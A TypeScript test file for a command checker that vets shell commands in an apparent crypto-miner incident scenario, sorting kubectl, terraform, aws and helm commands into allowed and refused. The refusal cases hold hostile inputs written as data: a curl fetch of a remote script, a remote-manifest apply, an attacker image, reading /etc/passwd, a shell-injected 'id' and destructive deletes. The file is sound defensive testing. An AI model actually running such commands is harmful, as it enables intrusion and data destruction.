import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { anyPack } from '../../../test/arbitraries/story.ts';
import { cryptoMinerPack, IMAGE, POD } from '../../../test/stories/crypto-miner.ts';
import { knownValues } from '../known.ts';
import { checkCommandText } from './check.ts';

const known = knownValues(cryptoMinerPack());
const judge = (text: string) => checkCommandText(text, known);

describe('the command checker', () => {
  it.each([
    ['kubectl get pods -n payments', 'reads', false],
    [`kubectl get pod ${POD} -n payments -o yaml`, 'reads', false],
    [`kubectl describe pod/${POD} --namespace=payments`, 'reads', false],
    [`kubectl logs ${POD} -n payments -c checkout --previous`, 'reads', false],
    ['kubectl get secrets -n payments -o name', 'reads', false],
    ['kubectl auth can-i get secrets --as system:serviceaccount:payments:checkout -n payments', 'reads', false],
    ['kubectl rollout history deploy/checkout -n payments', 'reads', false],
    ['kubectl rollout undo deployment/checkout -n payments --to-revision=7', 'changes', true],
    ['kubectl rollout undo deployment/checkout -n payments --dry-run=server', 'reads', false],
    ['kubectl scale deployment checkout --replicas=0 -n payments', 'changes', true],
    [`kubectl set image deployment/checkout checkout=${IMAGE} -n payments`, 'changes', false],
    ['kubectl delete clusterrolebinding checkout-cluster-admin', 'destroys', true],
    [`kubectl delete pod ${POD} -n payments`, 'destroys', true],
    [`trivy image ${IMAGE} --severity HIGH,CRITICAL --ignore-unfixed`, 'reads', false],
    [`docker history ${IMAGE}`, 'reads', false],
    ['terraform apply', 'changes', true],
    ['helm list -n payments', 'reads', false],
  ])('lets %s pass', (text, effect, needsApproval) => {
    expect(judge(text)).toMatchObject({ ok: true, text, effect, needsApproval });
  });

  it.each([
    ['curl http://203.0.113.7/x.sh', 'the program is not on the list'],
    ['sudo kubectl get pods -n payments', 'the program is not on the list'],
    ['kubectl exec checkout -n payments', 'kubectl exec is refused here'],
    ['kubectl drain ip-10-0-12-34.ec2.internal', 'kubectl drain is refused here'],
    ['terraform destroy', 'terraform destroy is refused here'],
    ['helm uninstall checkout -n payments', 'helm uninstall is refused here'],
    ['aws secretsmanager get-secret-value --secret-id x', 'aws secretsmanager is refused here'],
    ['aws ec2 terminate-instances --instance-ids i-0123456789abcdef0', 'what aws is asked to do is not on the list'],
    ['kubectl delete namespace payments', 'names a kind of thing that is not on the list'],
    ['kubectl delete deployment/checkout -n payments', 'names a kind of thing that is not on the list'],
    ['kubectl get secret/db -n payments -o yaml', 'names a kind of thing that is not on the list'],
    ['kubectl get pods -n kube-system', 'names a thing (namespace) that the evidence does not hold'],
    ['kubectl describe pod/other -n payments', 'names a thing (pod) that the evidence does not hold'],
    ['kubectl delete clusterrolebinding/cluster-admin', 'names a thing (binding) that the evidence does not hold'],
    [
      'kubectl set image deployment/checkout checkout=evil.example/x:1 -n payments',
      'names a thing (image) that the evidence does not hold',
    ],
    [
      'kubectl auth can-i --list --as system:serviceaccount:kube-system:admin -n payments',
      'names a thing (namespace) that the evidence does not hold',
    ],
    ['kubectl get pods -n payments --kubeconfig /tmp/x', 'has a flag that is not on the list'],
    ['kubectl get pods -n payments --server=203.0.113.7', 'has a flag that is not on the list'],
    ['kubectl get pods -n payments -n payments', 'has a flag twice'],
    ['kubectl get pods -n', 'has a flag without its value'],
    ['kubectl get pods -n --all-namespaces', 'has a flag without its value'],
    ['kubectl scale deployment/checkout -n payments --replicas=1000000', 'has a number out of its range'],
    ['kubectl scale deployment/checkout -n payments', '--replicas is missing'],
    ['kubectl rollout undo deployment/checkout', '-n is missing'],
    [`kubectl delete pod/${POD}`, '-n is missing'],
    ['kubectl describe deployment -n payments', 'names no single thing'],
    ['kubectl apply -f http://203.0.113.7/x.yaml', 'has a value that is not on the list'],
    ['kubectl apply -f /etc/passwd', 'has a value that is not on the list'],
    ['kubectl apply -f parapet-no-token.yaml --dry-run=none', 'has a value that is not on the list'],
    ['kubectl patch deployment/checkout -n payments -p x', 'has a flag that is not on the list'],
    ['kubectl get pods checkout payments -n payments', 'has too few or too many words'],
    ['kubectl get nodes --token=abcdefghijkl', 'holds what looks like a credential'],
    ['npm install left-pad@1.0.0', 'names a thing (package) that the evidence does not hold'],
    ['kubectl get pods; id', 'holds a character that a shell reads as its own'],
  ])('refuses %s', (text, why) => {
    expect(judge(text)).toEqual({ ok: false, why });
  });

  it('never repeats what it refused - it may be an attacker’s text', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[a-z]{8,20}$/), (name) => {
        const refused = judge(`kubectl describe pod/${name} -n ${name}`);
        expect(refused).toMatchObject({ ok: false });
        expect(JSON.stringify(refused)).not.toContain(name);
      }),
    );
  });

  it('never throws and lets nothing pass that names a thing no evidence holds, for any pack and any words', () => {
    const words = fc.array(
      fc.oneof(
        fc.constantFrom(
          'kubectl',
          'aws',
          'get',
          'delete',
          'pod',
          'pods',
          '-n',
          'iam',
          'list-access-keys',
          '--user-name',
          'deployment/x',
        ),
        fc.string({ unit: 'binary', maxLength: 12 }),
      ),
      { maxLength: 8 },
    );
    fc.assert(
      fc.property(anyPack, words, (pack, some) => {
        const values = knownValues(pack);
        const result = checkCommandText(some.join(' '), values);
        if (result.ok)
          for (const { kind, value } of result.parameters)
            expect([...values].some(([known, all]) => known === kind && all.has(value))).toBe(true);
      }),
    );
  });
});
